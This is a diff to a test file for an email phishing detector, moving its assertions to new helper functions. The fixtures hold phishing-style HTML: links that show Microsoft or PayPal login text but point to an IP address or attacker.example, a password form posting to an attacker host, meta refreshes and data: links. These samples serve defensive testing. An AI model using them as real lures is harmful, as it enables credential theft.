@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { analyzeEmail } from '../../src/email/index.js';
 import { eml } from '../helpers/eml.js';
-import { signal } from '../helpers/verdict.js';
+import { signal, expectAbsent, expectFires } from '../helpers/verdict.js';
 
 const scan = (html: string, text?: string) => analyzeEmail(eml({ html, ...(text ? { text } : {}) }), { scorer: null });
 
@@ -9,12 +9,12 @@ describe('email.link.text_href_mismatch', () => {
   const ID = 'email.link.text_href_mismatch';
   it('fires when the text shows one site and the link goes to another', async () => {
     const v = await scan('<p><a href="http://198.51.100.23/owa/login.php">https://login.microsoftonline.com/</a></p>');
-    expect(signal(v, ID)).toMatchObject({
+    expect(expectFires(v, ID)).toMatchObject({
       severity: 'high',
       evidence: [{ where: 'body:html', text: '"https://login.microsoftonline.com/" -> http://198.51.100.23/owa/login.php' }],
     });
     const v2 = await scan('<a href="https://secure-login.attacker.example/pp">www.paypal.com</a>');
-    expect(signal(v2, ID)?.message).toContain('paypal.com');
+    expect(expectFires(v2, ID).message).toContain('paypal.com');
   });
   it.each([
     ['click tracking on the same company', '<a href="https://click.shop.example/t/abc">www.shop.example</a>'],
@@ -22,7 +22,7 @@ describe('email.link.text_href_mismatch', () => {
     ['ordinary words as link text', '<a href="https://tracker.example/x">Read more</a>'],
     ['an email address as text', '<a href="mailto:help@shop.example">help@shop.example</a>'],
   ])('stays silent for %s', async (_, html) => {
-    expect(signal(await scan(html), ID)).toBeUndefined();
+    expectAbsent(await scan(html), ID);
   });
 });
 
@@ -30,11 +30,11 @@ describe('email.link.obfuscated_url', () => {
   const ID = 'email.link.obfuscated_url';
   it('fires on defanged URLs a reader would re-arm', async () => {
     const v = await analyzeEmail(eml({ text: 'Open hxxps://invoice-portal[.]attacker.example/view to see it.' }));
-    expect(signal(v, ID)).toMatchObject({ severity: 'medium', evidence: [{ where: 'body:text', text: 'https://invoice-portal.attacker.example/view' }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'medium', evidence: [{ where: 'body:text', text: 'https://invoice-portal.attacker.example/view' }] });
   });
   it('stays silent for ordinary URLs and brackets', async () => {
     const v = await analyzeEmail(eml({ text: 'See https://docs.sender.example/guide [1] and (see above).' }));
-    expect(signal(v, ID)).toBeUndefined();
+    expectAbsent(v, ID);
   });
 });
 
@@ -42,32 +42,32 @@ describe('email.link.form_in_body', () => {
   const ID = 'email.link.form_in_body';
   it('is critical for a form with a password field', async () => {
     const v = await scan('<form action="https://collect.attacker.example/p.php"><input name="u"><input type="password" name="p"></form>');
-    expect(signal(v, ID)).toMatchObject({ severity: 'critical' });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'critical' });
     expect(v.score).toBeGreaterThanOrEqual(0.95);
   });
   it('is high for another submitting form', async () => {
     const v = await scan('<form action="https://survey.attacker.example/s"><input name="card"></form>');
-    expect(signal(v, ID)?.severity).toBe('high');
+    expect(expectFires(v, ID).severity).toBe('high');
   });
   it('stays silent without a form', async () => {
-    expect(signal(await scan('<p>Reply to this email to answer the survey.</p>'), ID)).toBeUndefined();
+    expectAbsent(await scan('<p>Reply to this email to answer the survey.</p>'), ID);
   });
 });
 
 describe('email.link.meta_refresh and email.link.script_url', () => {
   it('fires on a meta refresh', async () => {
     const v = await scan('<meta http-equiv="refresh" content="0; url=https://landing.attacker.example/">hi');
-    expect(signal(v, 'email.link.meta_refresh')?.evidence[0]?.text).toBe('https://landing.attacker.example/');
+    expect(expectFires(v, 'email.link.meta_refresh').evidence[0]?.text).toBe('https://landing.attacker.example/');
   });
   it('fires high on data: links, low on javascript: links, and not on data: images', async () => {
     const v = await scan('<a href="javascript:location=\'https://x.attacker.example\'">Open</a>');
     // mail clients do not run javascript: links (2007 newsletters used them for pop-ups): context only
-    expect(signal(v, 'email.link.script_url')?.severity).toBe('low');
+    expect(expectFires(v, 'email.link.script_url').severity).toBe('low');
     const data = await scan('<a href="javascript:void(0)">a</a><a href="data:text/html;base64,PGgxPkxvZ2luPC9oMT4=">Open the document</a>');
-    expect(signal(data, 'email.link.script_url')).toMatchObject({ severity: 'high', evidence: [{ text: 'data:text/html;base64,PGgxPkxvZ2luPC9oMT4=' }, { text: 'javascript:void(0)' }] });
+    expect(expectFires(data, 'email.link.script_url')).toMatchObject({ severity: 'high', evidence: [{ text: 'data:text/html;base64,PGgxPkxvZ2luPC9oMT4=' }, { text: 'javascript:void(0)' }] });
     const img = await scan('<img src="data:image/png;base64,iVBORw0KGgo=">');
-    expect(signal(img, 'email.link.script_url')).toBeUndefined();
-    expect(signal(img, 'email.link.meta_refresh')).toBeUndefined();
+    expectAbsent(img, 'email.link.script_url');
+    expectAbsent(img, 'email.link.meta_refresh');
   });
 });
 
@@ -99,18 +99,18 @@ describe('email.link.text_href_mismatch and click trackers', () => {
     ["a site shown over its parent brand's domain", '<a href="http://www.newsnet.example/money/">NewsNetMoney.example</a>'],
   ])('is context (low) for %s in front of an unprotected site', async (_, html) => {
     const v = await scan(html);
-    expect(signal(v, ID)).toMatchObject({ severity: 'low', message: expect.stringContaining('click tracker') });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'low', message: expect.stringContaining('click tracker') });
   });
   it.each([
     ['a protected brand shown over a tracker-shaped link', '<a href="http://clicks.mailservice.example/z/ct/?abc">https://www.paypal.com/signin</a>'],
     ['an IP address behind a tracker-shaped path', '<a href="http://198.51.100.9/track/click?id=1">http://www.genesearch.example</a>'],
     ['a plain link elsewhere', '<a href="http://evil.example/login.php">http://www.mybank.example</a>'],
   ])('stays high for %s', async (_, html) => {
-    expect(signal(await scan(html), ID)?.severity).toBe('high');
+    expect(expectFires(await scan(html), ID).severity).toBe('high');
   });
   it('lets the worst link decide when trackers and a real mismatch mix', async () => {
     const v = await scan('<a href="http://clicks.mailservice.example/z/ct/?a">http://www.news.example</a><a href="http://evil.example/x">https://www.paypal.com/</a>');
-    expect(signal(v, ID)).toMatchObject({ severity: 'high', evidence: [{ text: expect.stringContaining('evil.example') }, { text: expect.stringContaining('mailservice') }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'high', evidence: [{ text: expect.stringContaining('evil.example') }, { text: expect.stringContaining('mailservice') }] });
   });
 });
 
@@ -118,8 +118,8 @@ describe('links behind link rewriters', () => {
   const phish = 'http://198.51.100.23/owa/login.php';
   it('still flags a phishing destination behind Safe Links, naming the wrapper in the evidence', async () => {
     const v = await scan(`<a href="${REWRITERS[0]![1](phish)}">https://login.microsoftonline.com/</a>`);
-    expect(signal(v, 'url.host.ip_literal')?.evidence[0]?.text).toBe(`${phish} (via safelinks)`);
-    expect(signal(v, 'email.link.text_href_mismatch')?.message).toContain('198.51.100.23');
+    expect(expectFires(v, 'url.host.ip_literal').evidence[0]?.text).toBe(`${phish} (via safelinks)`);
+    expect(expectFires(v, 'email.link.text_href_mismatch').message).toContain('198.51.100.23');
     expect(v.verdict).not.toBe('clean');
   });
   it.each(REWRITERS)('keeps a benign destination behind %s as clean as without the wrapper', async (_, wrap) => {
@@ -184,8 +184,8 @@ describe('legitimate look-alikes get no link signal of medium or higher', () => 
 
   it('still flags a search-looking form that posts to another site, and any password form', async () => {
     const away = await analyzeEmail(eml({ from: 'News <news@shop.example>', html: '<form action="https://collect.attacker.example/s"><input name="q"></form>' }), { scorer: null });
-    expect(signal(away, 'email.link.form_in_body')?.severity).toBe('high');
+    expect(expectFires(away, 'email.link.form_in_body').severity).toBe('high');
     const pw = await analyzeEmail(eml({ from: 'Shop <no-reply@shop.example>', html: '<form action="https://account.shop.example/login"><input name="u"><input type="password" name="p"></form>' }), { scorer: null });
-    expect(signal(pw, 'email.link.form_in_body')?.severity).toBe('critical');
+    expect(expectFires(pw, 'email.link.form_in_body').severity).toBe('critical');
   });
 });
